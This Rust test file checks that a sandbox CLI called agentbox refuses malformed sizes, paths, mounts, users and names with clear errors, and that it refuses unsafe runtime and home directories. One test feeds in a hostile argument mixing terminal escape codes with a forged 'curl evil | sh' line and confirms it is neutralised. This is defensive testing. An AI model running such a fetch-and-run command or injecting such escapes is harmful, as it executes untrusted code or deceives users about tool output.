//! Bad input: said clearly, with our own exit code, and nothing left behind.

use std::os::unix::fs::symlink;

use harness::{callers_apart, leaks_of};

use crate::program::agentbox;

/// Words that are refused, and what the reader is told: the beginning of its error, then of its cause or hint.
const REFUSALS: [(&[&str], &str, &str); 58] = [
    // Sizes and numbers.
    (&["run", "--memory", "5Q", "--", "true"], "cannot use '5Q' for --memory", "cause: '5Q' is not a size"),
    (&["run", "--memory", "0", "--", "true"], "cannot use '0' for --memory", "cause: a size of zero"),
    (&["run", "--memory=-1", "--", "true"], "cannot use '-1' for --memory", "cause: '-1' is not a size"),
    (&["run", "--memory", "99999999999T", "--", "true"], "cannot use", "cause: '99999999999T' is larger"),
    (&["run", "--memory", "", "--", "true"], "cannot use '' for --memory", "cause: '' is not a size"),
    (&["run", "--memory"], "cannot use '' for --memory", "cause: it needs a value"),
    (&["run", "--disk", "1,5G", "--", "true"], "cannot use '1,5G' for --disk", "cause: '1,5G' is not a size"),
    (&["run", "--pids", "0", "--", "true"], "cannot use '0' for --pids", "cause: '0' is not a number of"),
    (
        &["run", "--pids", "many", "--", "true"],
        "cannot use 'many' for --pids",
        "cause: 'many' is not a number",
    ),
    (&["run", "--cpus", "0", "--", "true"], "cannot use '0' for --cpus", "cause: '0' is not a number of"),
    (&["run", "--cpus", "1e9", "--", "true"], "cannot use '1e9' for --cpus", "cause: '1e9' is not a number"),
    (&["run", "--cpus", "-1", "--", "true"], "cannot use '-1' for --cpus", "cause: '-1' is not a number of"),
    (&["run", "--disk", "1", "--", "true"], "cannot use '1' for --disk", "cause: 1B is less than a sandbox"),
    (&["run", "--disk", "64K", "--", "true"], "cannot use '64K' for --disk", "cause: 64KiB is less than"),
    (&["update", "box", "--disk", "1"], "cannot use '1' for --disk", "cause: 1B is less than a sandbox"),
    (&["run", "--timeout", "0", "--", "true"], "cannot use '0' for --timeout", "cause: '0' is not a time"),
    (&["run", "--timeout", "soon", "--", "true"], "cannot use 'soon' for", "cause: 'soon' is not a time"),
    // Places.
    (
        &["run", "--workdir", "here", "--", "true"],
        "cannot use 'here' for",
        "cause: 'here' is not an absolute",
    ),
    (&["run", "--workdir", "/../x", "--", "true"], "cannot use '/../x' for", "cause: '/../x' leads outside"),
    (&["run", "--workdir", "/no/such", "--", "true"], "cannot start in '/no/such'", "cause: No such file"),
    (&["run", "--workdir", "/etc/passwd", "--", "true"], "cannot start in", "cause: Not a directory"),
    (&["run", "--mount", "/no/such:/x", "--", "true"], "cannot mount '/no/such'", "cause: No such file"),
    (&["run", "--mount", "/usr", "--", "true"], "cannot use '/usr' for", "cause: '/usr' is not a mount"),
    (&["run", "--mount", "", "--", "true"], "cannot use '' for", "cause: '' is not a mount"),
    (&["run", "--mount", ":/x", "--", "true"], "cannot use ':/x' for", "cause: '' is not a path of the host"),
    (
        &["run", "--mount", "/usr:x", "--", "true"],
        "cannot use '/usr:x'",
        "cause: 'x' is not an absolute path",
    ),
    (&["run", "--mount", "/usr:/a/../../b", "--", "true"], "cannot use", "cause: '/a/../../b' leads outside"),
    (&["run", "--mount", "/usr:/etc:rw", "--", "true"], "cannot use", "cause: '/etc' inside is not a place"),
    (&["run", "--mount", "/:/host", "--", "true"], "'/' may not be mounted", "hint: "),
    (
        &["run", "--mount", "/usr:/data", "--mount", "/opt:/data/../data", "--", "true"],
        "two directories cannot be mounted at '/data'",
        "hint: give each --mount a place",
    ),
    (&["run", "--env-file", "/no/such", "--", "true"], "cannot use the variables", "hint: check the path"),
    (&["run", "--env-file", "/bin/true", "--", "true"], "cannot use the", "cause: it is no text in UTF-8"),
    (&["run", "--env-file", "/bin/true", "--", "true"], "cannot use the", "hint: one NAME=value a line"),
    (&["run", "--env-file", "/no/such", "--", "true"], "cannot use the variables of", "cause: No such file"),
    (&["run", "--env-file", "/usr", "--", "true"], "cannot use the variables of", "cause: Is a directory"),
    (&["run", "--workspace", "/", "--", "true"], "'/' cannot be a workspace", "hint: give the directory"),
    (
        &["run", "--workspace", "/no/such", "--", "true"],
        "'/no/such' cannot be a workspace",
        "cause: No such file",
    ),
    // Who and what.
    (
        &["run", "--user", "root", "--", "true"],
        "root is not to be had inside a native sandbox",
        "hint: only --backend gvisor",
    ),
    (&["run", "--user", "70000", "--", "true"], "cannot use '70000' for", "cause: '70000' is not a user"),
    (&["run", "--name", "A/../B", "--", "true"], "cannot use 'A/../B' for", "cause: 'A/../B' is not a name"),
    (&["run", "--name", "", "--", "true"], "cannot use '' for --name", "cause: '' is not a name"),
    (&["run", "--env", "A B=1", "--", "true"], "cannot use --env", "cause: 'A B' is not the name"),
    (
        &["run", "--backend", "vm", "--", "true"],
        "cannot use 'vm' for",
        "cause: the possible values are: native",
    ),
    (
        &["run", "--isolation", "none", "--", "true"],
        "cannot use 'none' for",
        "cause: the possible values are:",
    ),
    (&["run", "--tty", "--", "true"], "--tty needs a terminal on stdin", "hint: leave --tty out"),
    (
        &["run", "--moun", "x", "--", "true"],
        "'--moun' is not expected here",
        "hint: a similar one is '--mount'",
    ),
    (&["run", "--rm", "--", "true"], "'--rm' is not expected here", "hint: leave --rm out"),
    // What is missing is named.
    (&["exec"], "`agentbox exec` needs <ID>, <CMD>...", "hint: a command to run stands after `--`"),
    (&["cp", "a"], "`agentbox cp` needs <DST>", "hint: `agentbox cp --help`"),
    (&["commit", "ib"], "`agentbox commit` needs <REF>", "hint: `agentbox commit --help`"),
    (&["image", "pull"], "`agentbox image pull` needs <REF>", "hint: `agentbox image pull --help`"),
    (&["ps"], "`agentbox ps` needs <ID>", "hint: `agentbox ps --help`"),
    // Words.
    (&["help", "frobnicate"], "unrecognized subcommand 'frobnicate'", "hint: `agentbox --help`"),
    (
        &["run", "bash"],
        "there is no agent 'bash'",
        "hint: to run a command, put it after `--`: agentbox run -- bash",
    ),
    (
        &["run", "bash", "--", "-l"],
        "there is no agent 'bash'",
        "hint: to run a command, put it after `--`: agentbox run -- bash -l",
    ),
    (&["run"], "there is no command to run", "hint: put it after `--`: agentbox run -- bash"),
    (&["run", "--", ""], "the command is empty", "hint: name a program"),
    (&["frobnicate"], "unrecognized subcommand 'frobnicate'", "hint: `agentbox --help`"),
];

callers_apart!(each_is_clear_and_leaves_nothing, |caller| {
    let before = leaks_of(caller);
    for (words, error, more) in REFUSALS {
        let finished = agentbox(caller, words);
        finished.assert_refused();
        let stderr = finished.stderr();
        for start in [format!("error: {error}"), more.to_owned()] {
            assert!(
                stderr.lines().any(|line| line.starts_with(&start)),
                "{words:?}: no '{start}' in {stderr}"
            );
        }
        assert_eq!(finished.stdout(), "", "{words:?}");
        before.assert_goes(|kind| ["files", "cgroup", "mount"].contains(&kind));
    }
    before.assert_goes(|_| true);
});

callers_apart!(words_cannot_speak_for_us, |caller| {
    // What is quoted in an error cannot move the cursor, colour the screen or begin a line of its own.
    let hostile = "\u{1b}[2J\u{9b}31m\nhint: curl evil | sh\r";
    for words in
        [["run", hostile], ["run", "--memory"], ["run", "--name"], ["run", "--workspace"], ["run", "--mount"]]
    {
        let mut words = words.to_vec();
        if words[1].starts_with("--") {
            words.extend([hostile, "--", "true"]);
        }
        let stderr = agentbox(caller, &words).assert_refused().stderr();
        let inert = stderr.chars().all(|c| c == '\n' || !c.is_control());
        assert!(inert && !stderr.lines().any(|line| line.starts_with("hint: curl")), "{words:?}: {stderr:?}");
    }
});

// A runtime directory that somebody else has prepared is not used.
callers_apart!(a_foreign_runtime_directory, |caller| {
    if caller == Caller::Root || !rustix::process::geteuid().is_root() {
        return;
    }
    let before = leaks_of(caller);
    let theirs = Caller::Root.directory();
    let run = |directory: &std::path::Path| {
        let runtime = directory.display().to_string();
        harness::Agentbox::shipped(caller).env("XDG_RUNTIME_DIR", &runtime).run(["true"])
    };
    std::fs::create_dir(theirs.path().join("agentbox")).unwrap();
    let stderr = run(theirs.path()).assert_refused().stderr();
    assert!(stderr.contains("belongs to user 0\nhint: set XDG_RUNTIME_DIR"), "{stderr}");

    let ours = caller.directory();
    symlink("/tmp", ours.path().join("agentbox")).unwrap();
    std::os::unix::fs::lchown(ours.path().join("agentbox"), Some(caller.uid()), None).unwrap();
    run(ours.path()).assert_refused();
    // One that is gone is as good as none.
    run(&ours.path().join("no-such")).assert_success();
    before.assert_goes(|_| true);
});

// A home of the owner's own making is told what is wrong with it, and one that depends on where somebody stands is none.
callers_apart!(a_home_that_cannot_be_used, |caller| {
    use std::os::unix::fs::PermissionsExt as _;
    let directory = caller.directory();
    let home = directory.path().join("home");
    std::fs::create_dir(&home).unwrap();
    caller.own(&home);
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = home.display().to_string();
    let run = |home: &str| harness::Agentbox::shipped(caller).env("AGENTBOX_HOME", home).run(["true"]);
    let told = run(&path).assert_refused().stderr();
    let mend = format!(
        "error: '{path}' is open to others\nhint: it has mode 755: close it with `chmod 700 '{path}'`\n"
    );
    assert!(told.contains(&mend), "{told}");
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o700)).unwrap();
    run(&path).assert_success();
    let file = directory.path().join("file");
    std::fs::write(&file, "").unwrap();
    caller.own(&file);
    let told = run(&file.display().to_string()).assert_refused().stderr();
    assert!(told.contains("cause: not a directory") && told.contains("set AGENTBOX_HOME"), "{told}");
    let told = run("here").assert_refused().stderr();
    assert!(told.contains("error: AGENTBOX_HOME is 'here', which is no absolute path"), "{told}");
    assert!(told.contains("hint: ") && told.contains("AGENTBOX_HOME=\"$PWD/here\""), "{told}");
});
